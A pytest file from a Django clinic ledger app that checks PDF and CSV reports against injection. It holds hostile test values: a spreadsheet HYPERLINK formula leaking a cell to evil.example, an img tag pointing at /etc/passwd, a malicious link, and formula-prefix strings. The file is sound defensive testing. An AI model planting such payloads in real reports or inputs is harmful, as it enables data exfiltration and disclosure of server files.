"""Report injection (security review issue 12): hostile supplier names, invoice numbers and
reasons stay literal text in every PDF and CSV the app builds; no server file is embedded, no
link is made, broken markup is no server error, and no CSV cell is a live formula."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone
from PIL import Image
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.platypus import Paragraph

from ketaflow.audit.context import Actor
from ketaflow.ledger import reports
from ketaflow.ledger import services as ledger_services
from ketaflow.ledger.models import Vial
from ketaflow.outcomes import services as outcome_services
from ketaflow.outcomes.report import progress_report_pdf
from ketaflow.patients.models import Patient
from ketaflow.treatment.demo import load_demo as treatment_demo
from ketaflow.web.export import csv_cell, csv_text, pdf_text
from tests.infusions.builders import make_ready
from tests.ledger.builders import (
    Stock,
    draw,
    receive,
    waste,
)
from tests.outcomes.builders import RELAPSE, history
from tests.outcomes.builders import pdf_text as pdf_streams
from tests.web.conftest import World

BROKEN = "<b>unclosed & <i>"
LINK = '<a href="https://evil.example/x">pay</a>'
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
# A PNG of a size no report draws: if reportlab ever read an <img> tag, its XObject would say so.
ODD_SIZE = (7, 5)


@pytest.fixture(autouse=True)
def _patient_drawable(request: pytest.FixtureRequest) -> None:
    """Ketamine is drawn only for a patient with a signed candidacy and a current consent."""
    if "world" in request.fixturenames:
        world = request.getfixturevalue("world")
        make_ready(world, world.patient)


@pytest.fixture
def planted_png(tmp_path: Path) -> str:
    path = tmp_path / "server-file.png"
    Image.new("RGB", ODD_SIZE, "red").save(path)
    return str(path)


def _no_planted_image(pdf: bytes) -> None:
    assert not (re.search(rb"/Width\s+7\b", pdf) and re.search(rb"/Height\s+5\b", pdf))


def _shown(pdf: bytes) -> str:
    """The PDF's text, with the strings reportlab splits a line into and the lines it wraps a
    paragraph into (a long path breaks mid-word) joined again."""
    return re.sub(r"\)\s*Tj\s*(T\*\s*)?\(", "", pdf_streams(pdf))


def _no_link(pdf: bytes) -> None:
    assert b"/URI" not in pdf
    assert b"evil.example" not in pdf.split(b"stream")[0]  # no annotation outside the text
    assert b"/Annots" not in pdf


# ---- the helpers -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        '<img src="/etc/passwd"/>',
        LINK,
        BROKEN,
        "&amp; &#169; &alpha; stay literal",
        '<font color="red" size="40">big</font>',
        "plain Supplier Inc",
    ],
)
def test_pdf_text_is_literal_in_a_paragraph(value: str) -> None:
    paragraph = Paragraph(pdf_text(value), getSampleStyleSheet()["BodyText"])
    assert paragraph.getPlainText() == value
    assert not any(getattr(f, "link", None) for f in paragraph.frags)
    assert not any(getattr(f, "cbDefn", None) for f in paragraph.frags)  # no <img>


def test_pdf_text_drops_control_characters_and_empties_none() -> None:
    assert pdf_text(None) == ""
    assert pdf_text("a\x00b\x1bc\td\ne") == "abc\td\ne"
    assert pdf_text(Decimal("-2.500")) == "-2.500"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Supplier = Inc", "Supplier = Inc"),
        ("-2.500", "-2.500"),  # a ledger's change in a vial: a number, not a formula
        ("+7", "+7"),
        ("", ""),
        (None, ""),
        (Decimal("-2.5"), Decimal("-2.5")),
        (-3, -3),
        (-0.5, -0.5),
    ],
)
def test_csv_cells_are_neutralised_but_numbers_stay_numbers(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell


def test_csv_text_round_trips_through_a_csv_reader() -> None:
    text = csv_text([["Reason", "Change"], [FORMULA, Decimal("-2.5")], ["@SUM(A1)", "-1"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["Reason", "Change"], ["'" + FORMULA, "-2.5"], ["'@SUM(A1)", "-1"]]


# ---- the ledger's reports ----------------------------------------------------------------------


def _hostile_stock(world: World, png: str) -> Stock:
    """Stock received from a hostile supplier and invoice, one draw and a waste whose reason is
    a formula."""
    stock = receive(world, lot="LOT-H")
    hostile = ledger_services.stock_receive(
        actor=Actor(user=world.nurse),
        product=stock.product,
        lot="=1+1",
        expires_on=stock.vials[0].expires_on,
        vial_count=1,
        supplier_name=f'<img src="{png}"/> <img src="/etc/passwd"/> {BROKEN}',
        supplier_address="1 Depot Rd",
        supplier_dea_number="RS0000000",
        invoice_number=LINK,
    )
    vial = Vial.objects.select_related("product").get(receipt=hostile)
    d = draw(world, vial, "1")
    fresh = Vial.objects.select_related("product").get(pk=vial.pk)
    waste(world, fresh, "10", draw=d, reason=FORMULA)
    return Stock(stock.product, [vial])


def test_the_vial_history_pdf_shows_hostile_supplier_and_invoice_literally(
    world: World, planted_png: str, client_for: Any
) -> None:
    stock = _hostile_stock(world, planted_png)
    vial = stock.vials[0]
    story = reports.pdf_story(reports.vial_history(vial))
    texts = [p.getPlainText() for p in story if isinstance(p, Paragraph)]
    subtitle = next(t for t in texts if "received with invoice" in t)
    assert LINK in subtitle
    assert f'<img src="{planted_png}"/> <img src="/etc/passwd"/> {BROKEN}' in subtitle
    response = client_for(world.director).get(
        reverse("ledger_report", args=["vial"]) + f"?vial={vial.pk}&format=pdf"
    )
    assert response.status_code == 200
    pdf = response.content
    assert pdf.startswith(b"%PDF-")
    _no_planted_image(pdf)
    assert not re.search(rb"/Subtype\s*/Image", pdf)  # a ledger report has no picture at all
    _no_link(pdf)
    text = _shown(pdf)
    for word in ("<img", f'src="{planted_png}"/>', 'src="/etc/passwd"/>', "<b>unclosed", "<a"):
        assert word in text


@pytest.mark.parametrize("name", ["ledger", "administration", "vial", "discrepancies"])
def test_every_ledger_pdf_builds_with_hostile_text(
    world: World, planted_png: str, client_for: Any, name: str
) -> None:
    stock = _hostile_stock(world, planted_png)
    query = f"?vial={stock.vials[0].pk}&format=pdf" if name == "vial" else "?format=pdf"
    response = client_for(world.director).get(reverse("ledger_report", args=[name]) + query)
    assert response.status_code == 200
    _no_planted_image(response.content)
    _no_link(response.content)


def test_the_ledger_csv_neutralises_formulas_and_keeps_negative_numbers(
    world: World, planted_png: str, client_for: Any
) -> None:
    _hostile_stock(world, planted_png)
    url = reverse("ledger_report", args=["ledger"]) + "?format=csv"
    rows = list(csv.reader(io.StringIO(client_for(world.director).get(url).content.decode())))
    header = rows.index(next(r for r in rows if r and r[0] == "Date"))
    table = [dict(zip(rows[header], r, strict=True)) for r in rows[header + 1 :]]
    reasons = [r["Reason"] for r in table]
    assert "'" + FORMULA in reasons
    assert FORMULA not in reasons
    assert any(r["Vial / lot"].endswith("/ =1+1") for r in table)  # not at a cell's start
    changes = [r["Change in vial (mg)"] for r in table]
    assert "-50.000" in changes  # the draw: a negative number stays a number
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell


# ---- the outcomes progress report --------------------------------------------------------------


@pytest.fixture
def ready(world: World) -> World:
    treatment_demo(actor=Actor.system("tests"), clinic=world.clinic, today=timezone.localdate())
    return world


def test_the_progress_report_shows_a_hostile_decline_reason_literally(
    ready: World, planted_png: str
) -> None:
    history(ready, ready.patient, RELAPSE)
    actor = Actor(user=ready.prescriber)
    rec = outcome_services.recommendations_refresh(actor=actor, patient=ready.patient)
    assert rec is not None
    reason = f'<img src="{planted_png}"/> {LINK} {BROKEN}'
    outcome_services.recommendation_decline(actor=actor, rec=rec, reason=reason)
    pdf, pages = progress_report_pdf(ready.patient, generated_by=ready.prescriber)
    assert pages >= 1
    _no_planted_image(pdf)
    _no_link(pdf)
    text = _shown(pdf)
    for word in ("<img", f'src="{planted_png}"/>', "<a", "<b>unclosed"):
        assert word in text


def test_a_name_with_dollar_signs_is_no_mathtext_in_the_trajectory_chart(
    ready: World, client_for: Any
) -> None:
    history(ready, ready.patient, RELAPSE)
    Patient.objects.filter(pk=ready.patient.pk).update(family_name="Anders $\\frac{a$")
    patient = Patient.objects.get(pk=ready.patient.pk)
    pdf, pages = progress_report_pdf(patient, generated_by=ready.prescriber)
    assert pages >= 1
    assert "Anders $\\\\frac{a$" in _shown(pdf)  # the heading, its backslash escaped by the PDF
    response = client_for(ready.prescriber).get(reverse("outcomes_trajectory", args=[patient.pk]))
    assert response.status_code == 200
    assert "Anders $\\frac{a$" in response.content.decode()
